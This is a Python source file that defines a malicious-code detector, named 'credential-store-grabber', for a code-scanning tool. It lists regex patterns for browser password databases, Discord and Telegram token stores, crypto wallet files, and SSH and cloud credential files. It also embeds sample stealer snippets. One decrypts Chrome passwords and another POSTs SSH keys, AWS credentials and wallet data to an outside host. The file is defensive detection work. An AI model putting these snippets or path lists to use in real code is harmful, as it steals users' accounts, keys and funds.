"""The stores where browsers, messengers and purses keep their secrets, opened."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files
from hunkwise.signals.tables.languages import CODE

_STORES = {
    "browser": re.compile(
        r"(?i)Login Data|\\Local State|/Local State|Local Extension Settings|Chrome[\\/]{1,2}User Data|cookies\.sqlite"
        r"|key[34]\.db|logins\.json|Web Data[\"']|Network[\\/]{1,2}Cookies"
    ),
    "messenger": re.compile(
        r"(?i)discord(?:canary|ptb)?[\\/]{1,4}Local Storage|Local Storage[\\/]{1,4}leveldb|Telegram Desktop[\\/]{1,4}tdata"
        r"|\btdata\b|Slack[\\/]{1,2}Cookies"
    ),
    "purse": re.compile(
        r"(?i)Exodus[\\/]{1,4}exodus\.wallet|wallet\.dat|Electrum[\\/]{1,4}wallets|nkbihfbeogaeaoehlefnkodbefgpgknn"
        r"|Atomic[\\/]{1,4}Local Storage|Ethereum[\\/]{1,4}keystore|bfnaelmomeimhlpmgjnjophhpkkoljpa|\.config/solana/id\.json"
    ),
    "keys": re.compile(
        r"(?i)\.ssh[\\/]{1,2}(?:id_|\*)|\.aws[\\/]{1,2}credentials|\.npmrc|\.pypirc|\.git-credentials|\.docker[\\/]config\.json"
        r"|\.kube[\\/]config|\.netrc|application_default_credentials|filezilla|WinSCP"
    ),
}
_OPENS = re.compile(
    r"CryptUnprotectData|ProtectedData\]?::Unprotect|win32crypt|browser_cookie3|os_crypt|encrypted_key"
    r"|SELECT\s+\w+_url[^\n]{0,80}password_value|security\s+find-generic-password|password_value|host_key"
)
_TOKENS = re.compile(r"\[\\w-\]\{2[46]\}\\?\.\[\\w-\]\{6\}|mfa\\\.\[\\w-\]\{84\}|dQw4w9WgXcQ|\(\?:\[A-Za-z0-9_-\]\{24\}")


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    kinds = {kind: found for kind, pattern in _STORES.items() if (found := pattern.search(view.text))}
    opens, tokens = _OPENS.search(view.text), _TOKENS.search(view.text)
    paths = len({one.lower() for pattern in _STORES.values() for one in pattern.findall(view.text)})
    weight = (
        0.3 * len(kinds)
        + (0.35 if opens and ("browser" in kinds or "Unprotect" in opens[0]) else 0.0)
        + (0.5 if tokens else 0.0)
        + 0.05 * min(paths, 6)
    )
    if view.reaches_out:
        weight += 0.15
    if (not kinds and not tokens) or weight < 0.5:
        return
    found = tokens or next(iter(kinds.values()))
    what = " and decrypted" if opens else " and sent" if view.reaches_out else ""
    yield Sighting((view.line(found.start()),), {"source": found[0][:60], "what": what}, strength=min(1.0, weight))


_see = in_files(
    _look,
    "login data",
    "local state",
    "user data",
    "cookies",
    "key4.db",
    "key3.db",
    "logins.json",
    "leveldb",
    "tdata",
    "wallet",
    "keystore",
    "nkbih",
    "bfnael",
    "exodus",
    "dqw4w9",
    "[\\w-]",
    "extension settings",
    ".ssh",
    ".aws",
    ".npmrc",
    ".pypirc",
    "id.json",
    "credentials",
    "unprotect",
)


SIGNAL = Signal(
    id="credential-store-grabber",
    title="A browser's or purse's store opened",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE | {"batch"},
    promise=(
        "Tells of code that names several stores of browsers, messengers or purses, decrypts them, or looks for tokens by their shape."
    ),
    why="No library has business there: those stores open other people's accounts.",
    quiet="One path alone, browsers that are only started.",
    remedy="Don't merge. If it ran anywhere, log out everywhere and change the passwords.",
    cause="`{source}` is opened{what}.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1555",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import os\n"
            "import sqlite3\n"
            "import win32crypt\n"
            "\n"
            'path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")\n'
            'rows = sqlite3.connect(path + r"\\Default\\Login Data").execute("SELECT origin_url, password_value FROM logins")\n'
            "plain = [win32crypt.CryptUnprotectData(row[1]) for row in rows]\n",
            line=6,
        ),
        Example(
            "javascript",
            'const fs = require("fs");\n'
            'const paths = [home + "/.ssh/id_rsa", home + "/.aws/credentials", appdata + "/discord/Local Storage/leveldb",\n'
            '  home + "/.config/Exodus/exodus.wallet"];\n'
            'fetch("https://example.org/a", { method: "POST", body: read(paths) });\n',
            line=2,
        ),
    ),
    stays_quiet=(
        Example("python", 'import os\n\ndef config():\n    return open(os.path.expanduser("~/.npmrc")).read()\n'),
        Example("javascript", 'const { chromium } = require("playwright");\nchromium.launchPersistentContext("profile");\n'),
    ),
)
